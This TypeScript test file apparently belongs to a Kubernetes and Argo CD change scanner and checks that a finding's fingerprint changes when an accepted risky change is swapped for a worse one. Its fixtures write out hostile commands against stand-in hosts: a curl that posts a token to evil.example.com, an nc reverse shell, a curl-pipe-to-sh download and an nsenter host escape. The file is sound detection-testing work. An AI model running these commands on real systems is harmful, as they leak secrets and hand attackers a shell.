import { describe, expect, test } from 'vitest';
import type { ValueMap } from '../../src/manifest/model.ts';
import { applicationObject, play, type Scenario } from '../replay/scenario.ts';
import { CASES } from './cases/all.ts';
import { apps, object, pair, web } from './cases/build.ts';

/*
 * An acceptance holds for as long as the fingerprint of the finding does. So what one says must not cover what is worse, or what is something else:
 * whoever opened the pull request pushes that as soon as the first was accepted.
 */

/** The fingerprints of what a rule finds, which has to find something. */
function printsOf(rule: string, scenario: Scenario): string[] {
  const prints = play(scenario).findings.flatMap((finding) => (finding.rule === rule ? finding.fingerprint : []));
  expect(prints).not.toEqual([]);
  return prints;
}

const run = (line: string, env: ValueMap[] = []): ValueMap =>
  web({ container: { command: ['sh', '-c'], args: [line], env } });
const quiet = run('exec server');
const post = (host: string) => `curl -d "$TOKEN" https://${host}/in`;
const hosts = (...names: string[]) => run(names.map(post).join('; '));
const shell = (to: string) => run(`nc ${to} 4444 -e /bin/sh`);

const everybody = { kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'system:authenticated' };
const broad = (role: string) =>
  object('rbac.authorization.k8s.io/v1/ClusterRoleBinding', 'all', {
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
    subjects: [everybody],
  });
const role = (...verbs: string[]) =>
  object('rbac.authorization.k8s.io/v1/ClusterRole', 'team', {
    rules: [{ apiGroups: ['apps'], resources: ['deployments'], verbs }],
  });

const settings = (count: number, prefix = 'c') =>
  Array.from({ length: count }, (_, index) => object('v1/ConfigMap', `${prefix}${index}`));
const kept = object('v1/ConfigMap', 'kept');
const others = settings(60, 'kept');
const gone = (count: number, prefix?: string) => pair([...others, ...settings(count, prefix)], others);

const agent = (name: string, image: string) => web({ kind: 'DaemonSet', name, container: { image } });
const production = { policy: { production: { apps: [], namespaces: ['shop'], clusters: [] } } };

const follows = (targetRevision: string): Scenario => {
  const source = { repoURL: 'https://git.evil.example.net/x/y.git', path: 'a', targetRevision };
  return {
    base: { root: [applicationObject('a')], a: [kept] },
    head: { root: [applicationObject('a'), applicationObject('b', { source })], a: [kept], b: [kept] },
  };
};

const project = (...syncWindows: ValueMap[]) =>
  object('argoproj.io/v1alpha1/AppProject', 'team', { spec: { syncWindows } });
const freeze = (applications: string[]) => ({ kind: 'deny', schedule: '0 22 * * *', duration: '1h', applications });

const service = (hostname: string) =>
  object('v1/Service', 'web', {}, { annotations: { 'external-dns.alpha.kubernetes.io/hostname': hostname } });

const webhook = (more: ValueMap) =>
  object('admissionregistration.k8s.io/v1/ValidatingWebhookConfiguration', 'guard', {
    webhooks: [
      {
        name: 'guard.example.com',
        failurePolicy: 'Fail',
        rules: [{ apiGroups: ['apps'], apiVersions: ['v1'], operations: ['CREATE', 'UPDATE'], resources: ['*'] }],
        clientConfig: { service: { namespace: 'guard', name: 'guard' } },
        ...more,
      },
    ],
  });
const except = (namespace: string) => ({
  namespaceSelector: { matchExpressions: [{ key: 'name', operator: 'NotIn', values: [namespace] }] },
});

const cilium = (...ports: string[]) =>
  object('cilium.io/v2/CiliumNetworkPolicy', 'web', {
    spec: {
      endpointSelector: {},
      ingress: [
        {
          fromEntities: ['world'],
          ...(ports.length === 0 ? {} : { toPorts: [{ ports: ports.map((port) => ({ port, protocol: 'TCP' })) }] }),
        },
      ],
    },
  });
const closed = object('cilium.io/v2/CiliumNetworkPolicy', 'web', { spec: { endpointSelector: {}, ingress: [{}] } });

describe('is another finding', () => {
  test.each<[rule: string, what: string, accepted: Scenario, pushed: Scenario]>([
    [
      'command-sends-out',
      'another connection for a shell',
      pair(quiet, shell('10.0.0.1')),
      pair(quiet, shell('x.example')),
    ],
    [
      'command-sends-out',
      'a host behind those that are named',
      pair(quiet, hosts('a.example.com', 'b.example.com', 'c.example.com', 'd.example.com')),
      pair(quiet, hosts('a.example.com', 'b.example.com', 'c.example.com', 'evil.example.com')),
    ],
    [
      'command-sends-out',
      'another script of the same host',
      pair(quiet, run('curl https://raw.example.com/acme/setup.sh | sh')),
      pair(quiet, run('curl https://raw.example.com/evil/setup.sh | sh')),
    ],
    [
      'command-sends-out',
      'another value of the variable that is the host',
      pair(quiet, run('curl -d "$TOKEN" https://$TO/in', [{ name: 'TO', value: 'a.example.com' }])),
      pair(quiet, run('curl -d "$TOKEN" https://$TO/in', [{ name: 'TO', value: 'evil.example.com' }])),
    ],
    [
      'pod-privileged',
      'another image that has it',
      pair(web(), web({ container: { securityContext: { privileged: true } } })),
      pair(web(), web({ container: { securityContext: { privileged: true }, image: 'registry.evil.example/x:1' } })),
    ],
    [
      'pod-privileged',
      'another command that has it',
      pair(web(), web({ container: { securityContext: { privileged: true } } })),
      pair(web(), web({ container: { securityContext: { privileged: true }, command: ['nsenter', '-t', '1', '-m'] } })),
    ],
    ['rbac-subject-broad', 'another role', pair(kept, [kept, broad('view')]), pair(kept, [kept, broad('edit')])],
    [
      'rbac-subject-broad',
      'a role that gives more',
      pair(kept, [kept, broad('team'), role('get')]),
      pair(kept, [kept, broad('team'), role('get', 'delete')]),
    ],
    ['blast-radius', 'more that is destroyed', gone(6), gone(12)],
    ['blast-radius', 'as much else that is destroyed', gone(6), gone(6, 'd')],
    [
      'blast-radius',
      'another agent of every node',
      pair([agent('one', 'a:1'), agent('two', 'a:1')], [agent('one', 'a:2'), agent('two', 'a:1')], production),
      pair([agent('one', 'a:1'), agent('two', 'a:1')], [agent('one', 'a:1'), agent('two', 'a:2')], production),
    ],
    ['target-revision-floating', 'what anybody may push to', follows('main'), follows('refs/pull/7/head')],
    [
      'sync-window-changed',
      'a window for others',
      pair(project(freeze(['a']), freeze(['*'])), project(freeze(['*']))),
      pair(project(freeze(['a']), freeze(['*'])), project(freeze(['a']))),
    ],
    [
      'dns-annotation-changed',
      'another name',
      pair(service('a.example.com'), service('b.example.com')),
      pair(service('a.example.com'), service('bank.example.com')),
    ],
    [
      'webhook-fail-open',
      'one that refuses nothing any more',
      pair(webhook({}), webhook(except('dev'))),
      pair(webhook({}), webhook({ failurePolicy: 'Ignore' })),
    ],
    ['networkpolicy-opened', 'every port', pair(closed, cilium('443')), pair(closed, cilium())],
    [
      'app-destination-namespace-changed',
      'one object more',
      apps(applicationObject('a')['spec'] as ValueMap, {
        destination: { server: 'https://kubernetes.default.svc', namespace: 'store' },
      }),
      {
        base: { root: [applicationObject('a')], a: [kept, object('v1/Service', 'web')] },
        head: {
          root: [
            applicationObject('a', { destination: { server: 'https://kubernetes.default.svc', namespace: 'store' } }),
          ],
          a: [kept, object('v1/Service', 'web')],
        },
      },
    ],
    [
      'replicas-zero',
      'the same in production',
      pair([web({ spec: { replicas: 3 } })], [web({ spec: { replicas: 0 } })]),
      pair([web({ spec: { replicas: 3 } })], [web({ spec: { replicas: 0 } })], production),
    ],
  ])('%s: %s', (rule, _what, accepted, pushed) => {
    const held = printsOf(rule, accepted);
    expect(printsOf(rule, pushed).filter((print) => held.includes(print))).toEqual([]);
  });
});

/** Rules whose sentence may be told in other words of the same risk: what is refused is refused, whatever the value is. */
const WORDS_ONLY = ['schema-invalid'];

test('two findings with one fingerprint are as bad, and say the same', () => {
  const told = new Map<string, Set<string>>();
  for (const [, , , , scenario] of CASES)
    for (const { rule, fingerprint, severity, message } of play(scenario).findings) {
      const key = `${rule} ${fingerprint}`;
      const text = WORDS_ONLY.includes(rule) ? severity : `${severity}: ${message}`;
      told.set(key, (told.get(key) ?? new Set()).add(text));
    }
  expect([...told.values()].filter((texts) => texts.size > 1)).toEqual([]);
  expect(told.size).toBeGreaterThan(500);
}, 120_000);
